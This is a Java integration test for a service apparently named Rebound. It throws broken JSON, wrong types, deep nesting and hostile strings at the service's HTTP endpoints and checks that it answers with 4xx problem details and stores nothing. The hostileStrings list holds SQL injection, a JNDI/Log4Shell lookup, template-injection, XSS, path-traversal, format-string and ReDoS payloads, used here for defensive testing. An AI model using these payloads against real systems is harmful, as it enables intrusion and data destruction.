package io.rebound.web;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import io.rebound.Http;
import io.rebound.IntegrationTest;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import org.junit.jupiter.api.Test;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Throws malformed and hostile input (jqwik's generators) at every endpoint that takes
 * input, over real HTTP: broken JSON, wrong types, huge strings, deep nesting, control
 * characters, SQL and template injection, unknown enum values. Every answer must be a 4xx
 * problem detail, never a 5xx; nothing of a rejected request may be stored; and Rebound
 * must answer normally afterwards.
 */
@IntegrationTest
class HostileInputIntegrationTests {

	private static final int SAMPLES = 60;

	@LocalServerPort
	int port;

	@Autowired
	JdbcTemplate jdbc;

	@Test
	void hostileInputGetsA4xxProblemNeverA5xxAndStoresNothing() throws Exception {
		Http http = new Http(this.port);
		String marker = "fuzz-" + UUID.randomUUID().toString().substring(0, 8);
		String incident = UUID.randomUUID().toString();
		long keys = count("api_keys");
		long rules = count("correlation_rules");
		long audit = count("audit_log");
		List<String> failures = new ArrayList<>();
		List<String> bodies = hostileBodies(marker).sampleStream().limit(SAMPLES * 4L).toList();
		List<String> endpoints = List.of("/api/errors", "/api/agents", "/api/agents/beat-" + marker + "/heartbeat",
				"/api/correlation/explain", "/api/keys", "/api/incidents/" + incident + "/merge",
				"/api/incidents/" + incident + "/split", "/api/errors/" + incident + "/resolve",
				"/api/recovery/runs/" + incident + "/approve");
		for (String body : bodies) {
			for (String endpoint : endpoints) {
				check(http.post(endpoint, body), "POST " + endpoint, body, failures);
			}
			check(http.put("/api/correlation/rules/" + marker, body), "PUT rule", body, failures);
		}
		List<String> values = new ArrayList<>(List.of("", "%", "&", "="));
		values.addAll(hostileStrings().sampleStream().limit(SAMPLES).toList());
		for (String value : values) {
			String encoded = java.net.URLEncoder.encode(value, StandardCharsets.UTF_8);
			if (encoded.length() > 4000) {
				// beyond the HTTP server's 8 KB request line Tomcat itself answers a bare
				// 400
				// before any of Rebound's code runs: a 4xx, but not a problem detail
				assertThat(http.get("/api/errors?q=" + encoded).status()).isEqualTo(400);
				continue;
			}
			for (String listing : List.of("/api/errors?severity=", "/api/errors?since=", "/api/errors?cursor=",
					"/api/incidents?status=", "/api/incidents?cursor=", "/api/audit?cursor=", "/api/agents?state=",
					"/api/recovery/history?level=", "/api/recovery/history?cursor=", "/api/recovery/history?since=",
					"/api/recovery/history?incident_id=", "/api/recovery/runs?incident_id=",
					"/api/errors?" + encoded + "=1")) {
				Http.Response response = http.get(listing + encoded);
				if (response.status() >= 500 || (response.status() >= 400
						&& !response.contentType().startsWith("application/problem+json"))) {
					failures.add("GET " + listing + " <" + abbreviate(value) + "> -> " + response.status());
				}
			}
		}

		assertThat(failures).as("answers that were not a 4xx problem detail").isEmpty();
		Thread.sleep(1500);
		assertThat(
				this.jdbc.queryForObject("SELECT count(*) FROM errors WHERE source LIKE ?", Long.class, marker + "%"))
			.as("errors stored from rejected requests")
			.isZero();
		assertThat(this.jdbc.queryForObject("SELECT count(*) FROM agents WHERE id LIKE ?", Long.class, marker + "%"))
			.as("agents registered from rejected requests")
			.isZero();
		assertThat(count("api_keys")).isEqualTo(keys);
		assertThat(count("correlation_rules")).isEqualTo(rules);
		assertThat(count("audit_log")).isEqualTo(audit);
		// and it still answers normally
		assertThat(http.get("/actuator/health/readiness").status()).isEqualTo(200);
		assertThat(http
			.post("/api/errors",
					Http.json(Map.of("source", marker + "-ok", "type", "t", "severity", "low", "message", "fine")))
			.status()).isEqualTo(202);
		org.awaitility.Awaitility.await()
			.atMost(Duration.ofSeconds(10))
			.until(() -> this.jdbc.queryForObject("SELECT count(*) FROM errors WHERE source = ?", Long.class,
					marker + "-ok") == 1);
	}

	private static void check(Http.Response response, String call, String body, List<String> failures) {
		boolean problem = response.contentType().startsWith("application/problem+json");
		// a heartbeat may carry fields Rebound does not know (newer agents): an object is
		// fine
		boolean heartbeatObject = call.endsWith("/heartbeat") && response.status() == 202
				&& (body.strip().startsWith("{") || body.isBlank());
		if (!heartbeatObject && (response.status() >= 500 || response.status() < 400 || !problem)) {
			failures
				.add(call + " <" + abbreviate(body) + "> -> " + response.status() + " " + abbreviate(response.body()));
		}
	}

	/**
	 * Bodies that are broken or hostile, each naming the marker where a source or id
	 * goes.
	 */
	private static Arbitrary<String> hostileBodies(String marker) {
		Arbitrary<String> brokenJson = Arbitraries.of("{", "}", "[", "{\"source\":", "{'a':1}", "nul", "tru",
				"{\"a\":1,}", "\u0000", "", " ", "[1,2", "{\"source\":\"" + marker + "\" \"type\":1}");
		Arbitrary<String> wrongTypes = Arbitraries.of("1", "true", "null", "\"text\"", "[]", "[[]]",
				"{\"source\":[\"" + marker + "\"],\"type\":{},\"severity\":7,\"message\":false}",
				"{\"id\":5,\"role\":[],\"name\":{},\"agent_ids\":\"x\"}", "{\"incidents\":\"all\",\"error_ids\":[1,2]}",
				"{\"match\":\"x\",\"cause\":[]}");
		Arbitrary<String> unknownEnums = Arbitraries.of("critical!", "CRITICAL", "urgent", "root", "admin", "")
			.map((v) -> Http.json(fields("source", marker, "type", "t", "severity", v, "message", "m", "role", v,
					"name", marker, "owner", marker, "category", v + "x", "match",
					List.of(Map.of("field", "message", "op", v + "op", "value", "x")), "cause", "c")));
		Arbitrary<String> deep = Arbitraries.integers()
			.between(500, 3000)
			.map((n) -> "{\"source\":\"" + marker + "\",\"context\":" + "[".repeat(n) + "]".repeat(n) + "}");
		Arbitrary<String> hostileFields = hostileStrings()
			.map((v) -> Http.json(fields("source", marker + v, "type", v, "severity", v, "message", v, "id", marker + v,
					"name", v, "role", v, "owner", v, "match", List.of(Map.of("field", v, "op", "matches", "value", v)),
					"cause", v, "incidents", List.of(v), "error_ids", List.of(v))));
		return Arbitraries.oneOf(brokenJson, wrongTypes, unknownEnums, deep, hostileFields, hostileStrings());
	}

	private static Arbitrary<String> hostileStrings() {
		return Arbitraries.oneOf(
				Arbitraries.of("' OR 1=1 --", "'; DROP TABLE errors; --", "\" OR \"\"=\"", "${jndi:ldap://x/a}",
						"{{7*7}}", "#{7*7}", "<script>alert(1)</script>", "../../etc/passwd", "%s%s%s%n", "\u0000",
						"\u202e", "\ud83d\ude00", "((((((((((a+)+)+)+)+)+)+)+)+)+)+$"),
				Arbitraries.strings().all().ofMinLength(0).ofMaxLength(300),
				Arbitraries.strings().withCharRange('\u0000', '\u001f').ofMinLength(1).ofMaxLength(50),
				Arbitraries.integers().between(10_000, 300_000).map("x"::repeat));
	}

	private static Map<String, Object> fields(Object... pairs) {
		Map<String, Object> map = new java.util.LinkedHashMap<>();
		for (int i = 0; i < pairs.length; i += 2) {
			map.put((String) pairs[i], pairs[i + 1]);
		}
		return map;
	}

	private long count(String table) {
		// people's actions only: recovery writes its own in the background
		String where = table.equals("audit_log") ? " WHERE role <> 'system'" : "";
		return this.jdbc.queryForObject("SELECT count(*) FROM " + table + where, Long.class);
	}

	private static String abbreviate(String text) {
		String flat = text.replaceAll("\\p{Cntrl}", "?");
		return (flat.length() > 120) ? flat.substring(0, 120) + "…(" + flat.length() + ")" : flat;
	}

}
